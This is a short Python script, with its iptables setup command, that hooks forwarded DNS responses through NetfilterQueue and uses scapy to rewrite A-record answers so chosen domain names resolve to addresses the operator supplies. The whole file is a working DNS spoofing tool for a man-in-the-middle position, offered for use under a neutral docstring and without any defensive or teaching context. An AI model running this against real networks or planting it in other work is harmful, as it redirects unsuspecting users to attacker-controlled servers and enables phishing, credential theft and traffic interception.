"""Give another address for some names, in the answers of DNS servers. Needs scapy.

iptables -I FORWARD -p udp --sport 53 -j NFQUEUE --queue-num 1
python dns_answers.py www.example.com=192.0.2.80 ...
"""

import sys

from netfilterqueue import NetfilterQueue
from scapy.layers.dns import DNS
from scapy.layers.inet import IP, UDP

NAMES = dict(argument.split("=") for argument in sys.argv[1:])


def rewrite(packet):
    ip = IP(packet.get_payload())
    if ip.haslayer(DNS) and ip[DNS].ancount:
        changed = False
        for index in range(ip[DNS].ancount):
            answer = ip[DNS].an[index]
            name = answer.rrname.decode().rstrip(".")
            if answer.type == 1 and name in NAMES:
                print(name, "is", answer.rdata, "and shall be", NAMES[name], flush=True)
                answer.rdata = NAMES[name]
                changed = True
        if changed:
            # Scapy computes what is missing anew.
            del ip.len, ip.chksum, ip[UDP].len, ip[UDP].chksum
            packet.set_payload(bytes(ip))
    packet.accept()


queue = NetfilterQueue()
queue.bind(1, rewrite)
try:
    queue.run()
except KeyboardInterrupt:
    pass
finally:
    queue.unbind()
